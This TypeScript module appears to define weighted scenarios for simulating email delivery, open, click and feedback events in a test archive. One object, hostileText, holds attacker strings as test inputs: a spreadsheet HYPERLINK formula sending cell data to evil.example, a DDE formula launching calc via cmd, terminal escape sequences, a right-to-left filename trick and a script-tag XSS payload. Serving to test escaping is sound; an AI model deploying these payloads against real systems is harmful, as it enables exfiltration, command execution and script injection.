import type { Timeline } from '../messages/timeline';
import { senders, subject } from '../profiles/senders';
import { send } from '../steps/accept';
import { deliver } from '../steps/deliver';
import { follow, open, prefetch, read, scan } from '../steps/engage';
import { changePreferences, complain, complainBySuppression, unsubscribe } from '../steps/feedback';
import { inOrder, type Scenario } from './scenario';

/** Sends the message and delivers it to every recipient. */
function sendAndDeliver(timeline: Timeline): void {
  send(timeline);
  for (const recipient of timeline.message.recipients) deliver(timeline, recipient);
}

/** Some of the recipients open and click. The records do not identify them. */
function readBySome(timeline: Timeline): void {
  const { recipients } = timeline.message;
  sendAndDeliver(timeline);
  for (const recipient of recipients.slice(0, 3)) read(timeline, recipient);
  follow(timeline, recipients[1]);
}

/** Fields that AWS might add to a record and to its mail block. */
const newFields = { eventVersion: 1.1, insights: { isp: 'Example', tags: ['a', 'b'], nested: [] } };
const newMailFields = { tenantId: 'tenant-0042', spamScore: 0.1, delegate: null };

function sendAndDeliverNewFields(timeline: Timeline): void {
  sendAndDeliver(timeline);
  for (const sample of timeline.events) {
    const { event } = sample;
    sample.event = { ...event, ...newFields, mail: { ...event.mail, ...newMailFields } };
  }
}

const deliverAndRead = inOrder(sendAndDeliver, read);

/** Texts of an attacker: terminal sequences, spreadsheet formulas, markup, text in the reverse direction. */
const hostileText = {
  subject: '=HYPERLINK("https://evil.example/?c="&A1,"Refund")\u001b[2J\u001b]0;owned\u0007 \u202egpj.exe',
  smtpResponse:
    '250 2.0.0 OK\r\n\u001b[31mqueued\u001b[0m\u0000 <script>alert(1)</script>\u2028"quoted" \\back',
  userAgent:
    "@SUM(1+1)*cmd|' /C calc'!A0 \u001b]8;;https://evil.example\u0007Mozilla\u001b]8;;\u0007 <img src=x>",
};

/** Scenarios of messages that reach the mailbox. The first one is by far the most frequent. */
const deliveryScenarios: readonly Scenario[] = [
  { perThousand: 582, run: sendAndDeliver },
  // A machine opens immediately. Often no person reads the message later.
  { perThousand: 55, run: inOrder(sendAndDeliver, prefetch) },
  {
    perThousand: 28,
    run: inOrder(sendAndDeliver, prefetch, (timeline) => read(timeline.advanceHalfDays(1))),
  },
  { perThousand: 46, run: deliverAndRead },
  // Late: after one to three half days, or after weeks.
  {
    perThousand: 40,
    run: inOrder(sendAndDeliver, (timeline) => read(timeline.advanceHalfDays(timeline.random.integer(1, 3)))),
  },
  { perThousand: 3, run: inOrder(sendAndDeliver, (timeline) => read(timeline.advanceWeeks()), follow) },
  // The same recipient reads several times.
  {
    perThousand: 38,
    run: (timeline) => {
      sendAndDeliver(timeline);
      read(timeline);
      read(timeline);
      if (timeline.random.onceIn(2)) read(timeline);
      read(timeline.advanceHalfDays(timeline.random.integer(1, 2)));
    },
  },
  {
    perThousand: 40,
    run: (timeline) => {
      sendAndDeliver(timeline);
      read(timeline);
      follow(timeline);
      if (timeline.random.onceIn(2)) follow(timeline);
    },
  },
  { perThousand: 12, message: { sender: senders.marketing }, run: inOrder(sendAndDeliver, scan) },
  { perThousand: 12, message: { recipientCount: 2 }, run: readBySome },
  { perThousand: 6, message: { recipientCount: 3 }, run: readBySome },
  { perThousand: 3, message: { recipientCount: 5 }, run: sendAndDeliver },
  // At least one message of each sender, even in a small archive.
  { perThousand: 0, message: { sender: senders.transactional }, run: deliverAndRead },
  { perThousand: 0, message: { sender: senders.alerts }, run: deliverAndRead },
  { perThousand: 0, message: { sender: senders.marketing }, run: deliverAndRead },
  { perThousand: 1, run: sendAndDeliverNewFields },
  {
    perThousand: 1,
    message: { subject: subject(hostileText.subject), sender: senders.marketing },
    run: (timeline) => {
      send(timeline);
      deliver(timeline, timeline.message.recipients[0], hostileText.smtpResponse);
      timeline.advance(1_000, 60_000);
      open(timeline, { ipAddress: '192.0.2.66', userAgent: hostileText.userAgent }, 'Unlikely');
    },
  },
];

/** Scenarios of recipients who change their preferences, and of reports that are not complaints. */
const feedbackScenarios: readonly Scenario[] = [
  // A `not-spam` report, the opposite of a complaint.
  { perThousand: 1, run: inOrder(sendAndDeliver, (timeline) => complain(timeline, 'not-spam')) },
  { perThousand: 1, run: inOrder(send, complainBySuppression) },
  { perThousand: 5, message: { sender: senders.marketing }, run: inOrder(sendAndDeliver, read, unsubscribe) },
  { perThousand: 3, message: { sender: senders.marketing }, run: inOrder(sendAndDeliver, changePreferences) },
];

export { deliverAndRead, deliveryScenarios, feedbackScenarios, sendAndDeliver };
